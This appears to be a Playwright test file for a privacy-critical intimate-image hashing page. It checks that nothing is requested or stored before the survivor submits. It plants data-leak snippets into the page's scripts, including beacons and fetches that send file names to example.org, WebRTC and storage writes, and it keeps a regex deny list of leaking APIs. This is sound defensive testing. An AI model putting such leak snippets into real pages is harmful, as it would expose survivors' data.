"""What the page requests and stores: nothing before the survivor presses send."""

import re
import time
from contextlib import suppress

import pytest
from playwright.sync_api import Error

from clearinghouse.page import manifest
from golden.pictures import blocks, rings
from nciihash.wire import OpenCase
from support.browsers.chosen_files import clip, file, pictures, png
from support.browsers.leaks import assert_holds_nothing_of, leaks
from support.browsers.visitor import ELSEWHERE
from support.hashes import by_python, fingerprints
from support.paths import SITE

# the modules of the worker
MODULES = tuple(name.removesuffix(".js") for name in manifest.WORKER)
LATE = 400  # milliseconds in which a late request would be sent


def test_nothing_is_requested_before_send_and_one_post_afterwards(visit):
    visitor = visit()
    before = len(visitor.requests)
    assert all(r.method == "GET" and r.url.startswith(visitor.url) for r in visitor.requests)
    visitor.answer_questions("shared")
    files = [*pictures(), clip()]
    visitor.choose(files)
    visitor.sees("refused.not_picture")
    visitor.box("choose.names").check()
    visitor.press("continue")
    visitor.unfold()
    visitor.page.wait_for_timeout(LATE)
    # only the worker's own modules were loaded while files were open
    loaded = {r.url.removeprefix(visitor.url) for r in visitor.requests[before:]}
    videos = {url for url in loaded if url.startswith(f"blob:{visitor.url}/")}
    assert loaded - videos <= {f"/page/{name}.js" for name in MODULES}
    assert len(videos) <= 1
    ready = len(visitor.requests)
    visitor.press("review.send")
    visitor.at("receipt.title")
    visitor.page.wait_for_timeout(LATE)
    (post,) = visitor.requests[ready:]
    assert (post.method, post.url) == ("POST", visitor.url + "/v1/cases")
    body = post.post_data_buffer
    sent = OpenCase.model_validate_json(body)
    assert sent.reason == "shared"
    assert [i.signals[0].value for i in sent.items] == [
        *(by_python(f["buffer"])[0] for f in files[:2]),
        sent.items[2].signals[0].value,
    ]
    assert [i.media for i in sent.items] == ["image", "image", "video"]
    assert_holds_nothing_of(body, files)
    headers = post.all_headers()
    assert re.fullmatch(r"[0-9a-f]{32}", headers["idempotency-key"])
    assert not {"cookie", "referer", "authorization"} & set(headers)
    assert leaks(visitor, before) == []


def test_hashing_more_files_requests_nothing(visit):
    visitor = visit()
    visitor.answer_questions()
    visitor.choose(pictures()[:1])
    before = len(visitor.requests)
    visitor.choose([file("b.png", png(blocks(300, 300))), file("c.png", png(rings(300, 300)))])
    visitor.page.wait_for_timeout(LATE)
    assert visitor.requests[before:] == []


def test_the_worker_has_no_network(visit):
    visitor = visit(arrive=False)
    planted = """
    addEventListener("message", async ({ data: { id } }) => {
      const tried = [];
      for (const address of ["/health/live", "https://example.org/"])
        tried.push(await fetch(address).then(() => "reached", () => "stopped"));
      try { importScripts("/page/worker/pdq.js"); tried.push("reached"); }
      catch { tried.push("stopped"); }
      tried.push(await new Promise((resolve) => {
        const socket = new WebSocket("ws://127.0.0.1:9/");
        socket.onopen = () => resolve("reached");
        socket.onerror = () => resolve("stopped");
      }).catch(() => "stopped"));
      postMessage({ id, code: tried.join() });
    });
    """

    def plant(route):
        reply = route.fetch()
        route.fulfill(response=reply, body=planted)

    visitor.page.route("**/page/worker/worker.js", plant)
    visitor.arrive()
    (got,) = fingerprints(visitor.page, [b"x"])
    assert set(got["code"].split(",")) == {"stopped"}
    assert not any(r.url.endswith("/health/live") for r in visitor.requests)


LEAKS = {
    "an extra fetch": ("fetch('/health/live')", "/health"),
    "a fetch elsewhere": ("fetch('https://example.org/').catch(() => 0)", "policy: connect"),
    "an image beacon": ("new Image().src = '/x.png?n=' + blob.name", "policy: img"),
    "a beacon": ("navigator.sendBeacon('https://example.org/', blob.name)", "policy: connect"),
    "a cookie": ("document.cookie = 'seen=1'", "stored"),
    "local storage": ("localStorage.setItem('name', blob.name)", "stored"),
    "session storage": ("sessionStorage.setItem('name', blob.name)", "stored"),
    "a database": ("indexedDB.open('files')", "stored"),
    "a cache": ("caches.open('files')", "stored"),
    "a location": ("location = '/?name=' + blob.name", "request"),
    "a window": ("open('https://example.org/?' + blob.size)", "request"),
    "webrtc": ("new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })", "webrtc"),
    "markup": ("document.body.insertAdjacentHTML('beforeend', '<img src=/x>')", "require-trusted"),
    "a script": ("document.createElement('script').textContent = '1'", "require-trusted"),
    "a form": ("const f = document.createElement('form'); document.body.append(f); f.submit()",
               "form-action"),
}  # fmt: skip


@pytest.mark.parametrize("leak", [None, *LEAKS])
def test_a_planted_leak_is_detected(visit, leak):
    """`leaks` finds each of them, and nothing where none is planted."""
    visitor = visit(arrive=False)
    visitor.page.route("https://example.org/**", lambda route: route.fulfill(body="x"))
    script, sign = LEAKS.get(leak, ("", ""))

    def plant(route):
        reply = route.fetch()
        line = "for (const blob of [...blobs].slice(0, free)) {"
        # from its file: a busy browser may have discarded the body of the answer
        body = (SITE / "screens/choose_files.js").read_text(encoding="utf-8")
        assert body.count(line) == 1
        planted = f"{line} try {{ {script} }} catch {{}}"
        route.fulfill(response=reply, body=body.replace(line, planted))

    visitor.page.route("**/page/screens/choose_files.js", plant)
    visitor.arrive()
    visitor.answer_questions()
    before = len(visitor.requests)
    visitor.page.set_input_files("#files", pictures()[:1])

    def seen():
        extra = [
            f"request: {r.url}"
            for r in visitor.requests[before:]
            if not re.search(rf"/page/({'|'.join(MODULES)})\.js$", r.url)
        ]
        return leaks(visitor, before) + extra

    if leak is None:
        visitor.page.locator("button.main:enabled").wait_for()
        visitor.page.wait_for_timeout(LATE)
        assert seen() == []
        return
    found = []
    deadline = time.monotonic() + 30
    while not any(sign in what for what in found):
        assert time.monotonic() < deadline, found
        visitor.page.wait_for_timeout(20)
        with suppress(Error):  # of a page that a changed address replaces at this moment
            found = seen()


def test_scripts_use_no_api_that_could_leak():
    """No policy prevents navigation or WebRTC, so that the scripts must not use them."""
    source = "\n".join(p.read_text(encoding="utf-8") for p in sorted(SITE.rglob("*.js")))
    assert re.findall(r"\blocation\b(?!\.origin)[^;\n]*", source) == ["location.replace(ELSEWHERE)"]
    assert source.count(f'const ELSEWHERE = "{ELSEWHERE}"') == 1
    leaking = (
        r"RTC\w*Connection|WebTransport|WebSocket|EventSource|sendBeacon|XMLHttpRequest|\beval\b"
    )
    leaking += r"|innerHTML|outerHTML|insertAdjacentHTML|document\.write|Function\(|importScripts"
    leaking += r"|localStorage|sessionStorage|indexedDB|caches|cookie|serviceWorker|history\."
    assert re.findall(leaking, source) == []
    assert sorted(re.findall(r"fetch\((.*)", source)) == [
        'new URL(`words/${language}.json`, import.meta.url), { credentials: "omit" });',
        "path, {",
    ]
    assert source.count('credentials: "omit"') == 2
    assert re.findall(r"https?://(?!www\.wikipedia\.org)[\w.-]+", source) == [
        "https://revengepornhelpline.org.uk",
        "https://cybercivilrights.org",
        "https://www.esafety.gov.au",
        "https://stopncii.org",
        "https://takeitdown.ncmec.org",
        "https://www.childline.org.uk",
    ]
